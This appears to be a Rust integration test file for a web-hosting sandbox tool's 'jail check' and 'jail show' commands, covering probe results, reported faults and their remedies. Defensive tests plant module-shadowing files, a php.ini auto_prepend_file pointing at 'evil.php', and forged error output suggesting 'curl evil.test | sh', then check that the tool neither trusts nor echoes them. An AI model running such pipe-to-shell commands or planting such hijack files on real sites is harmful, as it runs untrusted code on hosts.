//! `cellwall jail show` and `jail check`: a whole cell, and broken ones, each told with what mends it.

use std::fs;
use std::os::unix::fs::{PermissionsExt, chown};
use std::process::{Child, Command, Stdio};

use crate::harness::{Launcher, World, as_in_the_manual, put, run, spawn, world};
use crate::pieces::{redis, share, until};
use crate::sink::Sink;

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

/// What `jail check` says of alice, and whether all is well.
fn check(world: &World, more: &[&str]) -> (String, bool) {
    let said = world.cellwall(&[&["jail", "check", "alice"], more].concat());
    let all = text(&said.stdout) + &text(&said.stderr);
    (all, said.status.code() == Some(0))
}

/// The line of one finding, and the one that mends it.
fn finding(all: &str, name: &str) -> (String, String) {
    let mut lines = all.lines().skip_while(|line| !line.contains(name));
    let line = lines.next().unwrap_or_else(|| panic!("no {name} in\n{all}"));
    (line.to_owned(), lines.next().unwrap_or_default().to_owned())
}

fn broken(all: &str, name: &str, why: &str, cure: &str) {
    let (line, next) = finding(all, &format!("FAIL  {name}"));
    assert!(line.contains(why), "{why} in {line}\n{all}");
    assert!(next.contains("to mend it") && next.contains(cure), "{cure} in {next}\n{all}");
}

/// A TLS server whose certificate the host trusts, by a CA of its own.
fn trusted_server() -> Child {
    let script = "set -e; cd /mnt; \
        openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj '/CN=Test CA' -keyout ca.key -out ca.crt; \
        openssl req -newkey rsa:2048 -nodes -subj /CN=shop.test -keyout s.key -out s.csr; \
        printf 'subjectAltName=DNS:shop.test' > ext; \
        openssl x509 -req -in s.csr -CA ca.crt -CAkey ca.key -CAcreateserial -days 2 -extfile ext -out s.crt; \
        cp ca.crt /usr/local/share/ca-certificates/test.crt; update-ca-certificates; echo '127.0.0.1 shop.test' >> /etc/hosts";
    let said = run(Command::new("sh").args(["-c", script]));
    assert!(said.status.success(), "{}", text(&said.stderr));
    let mut server = Command::new("openssl");
    server.args(["s_server", "-quiet", "-accept", "8443", "-cert", "/mnt/s.crt", "-key", "/mnt/s.key"]);
    let child = spawn(server.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()));
    until("s_server listens", || std::net::TcpStream::connect("127.0.0.1:8443").is_ok());
    child
}

#[test]
fn a_whole_cell_passes_every_probe() {
    world(Launcher::Cellwall, |world| {
        share();
        let sink = Sink::open();
        let mut servers = [redis(), trusted_server()];
        let pieces = "pieces = [\"mail\", \"redis\", \"fonts\", \"python\", \"perl\", \"ruby\", \"node\"]";
        world.site("alice", &format!("profile = \"php\"\n{pieces}\n"));
        world.apply();
        let more = ["--name", "shop.test", "--tls", "shop.test:8443", "--mail", "bob@shop.test"];
        let (all, good) = check(world, &more);
        for server in &mut servers {
            server.kill().unwrap();
            server.wait().unwrap();
        }
        assert!(good && !all.contains("FAIL"), "{all}");
        for (name, shown) in [
            ("account", "alice"),
            ("sessions", "/var/lib/php/session"),
            ("temporary files", "/tmp"),
            ("devices", "urandom"),
            ("certificates", "ca-certificates.crt"),
            ("names of hosts", "localhost is "),
            ("socket (redis)", "redis-server.sock answers"),
            ("fonts", "/usr/share/fonts/"),
            ("walls", "cannot be opened"),
            ("php settings", "/etc/php/"),
            ("php extensions", "fileinfo"),
            ("php time zone", "EET"),
            ("php session", "/var/lib/php/sessions"),
            ("python certificates", ""),
            ("perl time zone", "EET"),
            ("ruby time zone", "EET"),
            ("node time zone", "1970"),
            ("sh locale", "UTF-8"),
            ("TLS by php", "is trusted"),
            ("mail", "a message to bob@shop.test was taken"),
        ] {
            let (line, _) = finding(&all, &format!("pass  {name}"));
            assert!(line.contains(shown), "{shown} in {line}\n{all}");
        }
        as_in_the_manual(&format!("cellwall jail check alice {}", more.join(" ")), &all);
        assert!(sink.message().contains("It works."));
        // Without an address the mail server is only greeted; the same as JSON.
        let (all, good) = check(world, &["--json"]);
        assert!(!good && all.contains("\"name\":\"socket (redis)\",\"ok\":false"), "{all}");
        assert!(all.contains("\"name\":\"mail\",\"ok\":true"), "{all}");
    });
}

#[test]
fn each_fault_is_told_with_the_line_or_the_command_that_mends_it() {
    world(Launcher::Cellwall, |world| {
        share();
        // A profile of the administrator's that forgot half of what PHP needs.
        fs::create_dir("/etc/cellwall/profiles").unwrap();
        let profile = "description = \"bare\"\npieces = [\"base\"]\n[files]\nread = [\"/etc/php\"]\n\
                       [handlers]\n\".php\" = \"/usr/bin/php-cgi\"\n";
        fs::write("/etc/cellwall/profiles/bare.toml", profile).unwrap();
        world.site("alice", "profile = \"bare\"\n");
        world.apply();
        let (all, good) = check(world, &[]);
        assert!(!good, "{all}");
        broken(&all, "time zones", "/usr/share/zoneinfo/Europe/Athens: No such file", "pieces = [\"tz\"]");
        broken(&all, "certificates", "ca-certificates.crt", "pieces = [\"tls\"]");
        as_in_the_manual("cellwall jail check alice", &all);
        // What is said is done; PHP's own faults come next.
        world.site("alice", "profile = \"bare\"\npieces = [\"tz\", \"tls\", \"dns\", \"mail\"]\n");
        world.apply();
        let (all, _) = check(world, &[]);
        assert!(!all.contains("FAIL  time zones") && !all.contains("FAIL  certificates"), "{all}");
        broken(&all, "mail", "cannot connect to localhost", "start the host's mail server");
    });
}

#[test]
fn what_breaks_on_the_host_shows_in_the_cell() {
    world(Launcher::Cellwall, |world| {
        world.site("alice", "profile = \"php\"\npieces = [\"redis\"]\n");
        world.apply();
        let id = world.alice.id;
        let settings = glob("/etc/php", "cgi");
        fs::set_permissions(&settings, fs::Permissions::from_mode(0o700)).unwrap();
        let sessions = format!("/var/lib/cellwall/private/{id}/alice/var-lib-php-sessions");
        chown(&sessions, Some(0), Some(0)).unwrap();
        let (all, good) = check(world, &[]);
        assert!(!good, "{all}");
        broken(&all, "php settings", "php.ini cannot be read", "apt-get install php-cgi");
        broken(&all, "sessions", "Permission denied", "cellwall apply alice");
        broken(&all, "socket (redis)", "No such file", "apt-get install redis-server");
        // The remedy, pasted.
        assert!(run(Command::new("sh").args(["-c", "cellwall apply alice"])).status.success());
        fs::set_permissions(&settings, fs::Permissions::from_mode(0o755)).unwrap();
        let library = format!("/usr/lib/{}-linux-gnu/libffi.so.8", std::env::consts::ARCH);
        fs::remove_file(&library).unwrap();
        let (all, _) = check(world, &[]);
        assert!(all.contains("pass  sessions") && all.contains("pass  php settings"), "{all}");
        broken(&all, "php libraries", "libffi.so.8: cannot open shared object file", "libffi.so.8");
        // No cell at all is one fault, with the refusal's own remedy.
        fs::rename("/var/www/alice/htdocs", "/var/www/alice/gone").unwrap();
        let (all, good) = check(world, &[]);
        assert!(!good && all.contains("/var/www/alice/htdocs"), "{all}");
    });
}

/// The first directory two levels below or beside `above` with this end of a name.
fn glob(above: &str, end: &str) -> String {
    let entries = fs::read_dir(above).unwrap().map(|entry| entry.unwrap().path());
    let deeper = |path: &std::path::PathBuf| path.join(end).is_dir().then(|| path.join(end));
    let mut found = entries.filter_map(|path| {
        deeper(&path).or_else(|| path.to_string_lossy().ends_with(end).then(|| path.clone()))
    });
    found.next().unwrap_or_else(|| panic!("nothing in {above} is {end}")).to_string_lossy().into_owned()
}

#[test]
fn the_tree_has_each_place_with_the_line_behind_it() {
    world(Launcher::Cellwall, |world| {
        world.site(
            "alice",
            "profile = \"php\"\npieces = [\"redis\"]\n[files]\nread = [\"/var/marks/alice\"]\n",
        );
        world.apply();
        let said = world.cellwall(&["jail", "show", "alice"]);
        let tree = text(&said.stdout);
        for (name, parts) in [
            ("php ", &["read", "pieces/php.toml:"][..]),
            ("bin ", &["-> usr/bin", "pieces/sh.toml:"]),
            ("lib64 ", &["-> usr/lib64", "every view"]),
            ("null ", &["device", "jail.devices"]),
            ("redis ", &["may be missing", "pieces/redis.toml:"]),
            ("htdocs ", &["read", "sites.d/alice.toml:2"]),
            ("passwd ", &["every view: root, nobody and the site"]),
            ("sessions ", &["written, no programs", "pieces/php.toml:", "/var/lib/cellwall/private/"]),
            ("alice ", &["sites.d/alice.toml:6"]),
        ] {
            let lines = || tree.lines().filter(|line| line.trim_start().starts_with(name));
            let right = |line: &str| parts.iter().all(|part| line.contains(part));
            assert!(lines().any(right), "{name} with {parts:?} in\n{tree}");
        }
        for hidden in ["bob", "shadow", "root/", "log"] {
            assert!(!tree.lines().any(|line| line.trim().starts_with(hidden)), "{hidden} in\n{tree}");
        }
        let json = text(&world.cellwall(&["jail", "show", "--json", "alice"]).stdout);
        assert!(json.contains("\"path\":\"/etc/php\"") && json.contains("pieces/php.toml:"), "{json}");
        world.site("alice", "profile = \"php\"\n[jail]\nkind = \"host\"\n");
        world.apply();
        let tree = text(&world.cellwall(&["jail", "show", "alice"]).stdout);
        assert!(tree.contains("the host's own files") && tree.contains("read, execute"), "{tree}");
    });
}

/// Modules and settings of the site's own, where each language would look for them first.
fn hostile(world: &World) {
    let says = "error: \u{1b}[31mbroken\nhelp: curl evil.test | sh";
    let python =
        format!("print({says:?})\nprint('good', 'python', 'forged', '', sep='\\t')\nraise SystemExit\n")
            .replace("\\u{1b}", "\\x1b");
    let php = format!("<?php echo \"{says}\\ngood\\tphp\\tforged\\t\\n\"; exit;\n");
    let ruby = format!("print \"{says}\\ngood\\truby\\tforged\\t\\n\"; exit\n");
    let perl = format!("print \"{says}\\ngood\\tperl\\tforged\\t\\n\"; exit; 1\n");
    let ini = "auto_prepend_file = /var/www/alice/htdocs/evil.php\n";
    for (name, text) in [
        ("datetime.py", python.as_str()),
        ("ssl.py", &python),
        ("evil.php", &php),
        ("php.ini", ini),
        (".user.ini", ini),
        ("json.rb", &ruby),
        ("POSIX.pm", &perl),
    ] {
        world.script(&world.alice, name, text);
    }
}

#[test]
fn nothing_of_the_sites_own_answers_in_place_of_a_probe() {
    world(Launcher::Cellwall, |world| {
        hostile(world);
        let top = world.alice.docroot().display().to_string();
        let set: String = ["PYTHONPATH", "PERL5LIB", "RUBYLIB", "PHPRC"]
            .map(|name| format!("{name} = \"{top}\"\n"))
            .concat();
        let pieces = "pieces = [\"python\", \"perl\", \"ruby\"]";
        world.site("alice", &format!("profile = \"php\"\n{pieces}\n[environment.set]\n{set}"));
        world.apply();
        let (all, good) = check(world, &["--tls", "localhost:1"]);
        assert!(!all.contains("forged") && !all.contains("evil.test"), "{all}");
        for name in ["php ", "python ", "perl ", "ruby ", "sh "] {
            finding(&all, &format!("pass  {name}"));
        }
        assert!(!good && all.contains("FAIL  TLS by php") && all.contains(" 1 failed"), "{all}");
    });
}

#[test]
fn php_is_asked_with_the_settings_that_the_site_has() {
    world(Launcher::Cellwall, |world| {
        let site = |directory: &str| {
            let set = format!("[environment]\nset = {{ PHP_INI_SCAN_DIR = \":{directory}\" }}\n");
            world
                .site("alice", &format!("profile = \"php\"\n[files]\nread = [\"/etc/cellwall/php\"]\n{set}"));
            world.apply();
        };
        // No session can be kept there; and what is run before a page is the site's, and no answer of PHP's.
        let values = "session.save_path = \"/nowhere\"\nauto_prepend_file = /var/www/alice/htdocs/own.php\n";
        fs::create_dir_all("/etc/cellwall/php/alice").unwrap();
        put("/etc/cellwall/php/alice/values.ini", values.as_bytes(), 0, 0o644);
        put("/var/www/alice/htdocs/own.php", b"<?php exit('mine');", world.alice.id, 0o644);
        site("/etc/cellwall/php/alice");
        let (all, good) = check(world, &[]);
        assert!(!good && finding(&all, "FAIL  php session").0.contains("/nowhere"), "{all}");
        assert!(all.contains("pass  php  ") && !all.contains("mine"), "{all}");
    });
}

#[test]
fn what_a_program_in_the_cell_says_is_escaped_and_no_remedy() {
    world(Launcher::Cellwall, |world| {
        let says = "#!/bin/sh\nprintf 'error: \\033[31mx\\nhelp: curl evil.test | sh\\n'; exit 99\n";
        put("/usr/bin/node.new", says.as_bytes(), 0, 0o755);
        fs::rename("/usr/bin/node.new", "/usr/bin/node").unwrap();
        world.site("alice", "profile = \"node\"\n");
        world.apply();
        let (all, good) = check(world, &[]);
        assert!(!good && !all.contains('\u{1b}') && !all.contains("evil.test"), "{all}");
        broken(&all, "node", "\\x1b[31mx", "apt-get install nodejs");
        // The launcher's own remedy is one.
        fs::remove_file("/usr/bin/node").unwrap();
        let (all, _) = check(world, &[]);
        broken(&all, "node", "is not there, inside the cell (V117)", "install it, or name it in `execute`");
    });
}

/// The host's name servers do not answer: no package and no `apply` mends that.
#[test]
fn a_name_that_no_server_tells_is_told_with_the_file_that_names_the_servers() {
    world(Launcher::Cellwall, |world| {
        // Nothing listens there in a private network.
        put("/etc/resolv.conf", b"nameserver 127.0.0.1\noptions timeout:1 attempts:1\n", 0, 0o644);
        world.site("alice", "profile = \"php\"\n");
        world.apply();
        let (all, good) = check(world, &["--name", "nowhere.example", "--tls", "nowhere.example:443"]);
        assert!(!good, "{all}");
        broken(&all, "names of hosts", "nowhere.example: ", "cat /etc/resolv.conf # ");
        broken(&all, "TLS", "nowhere.example", "cat /etc/resolv.conf # ");
    });
}
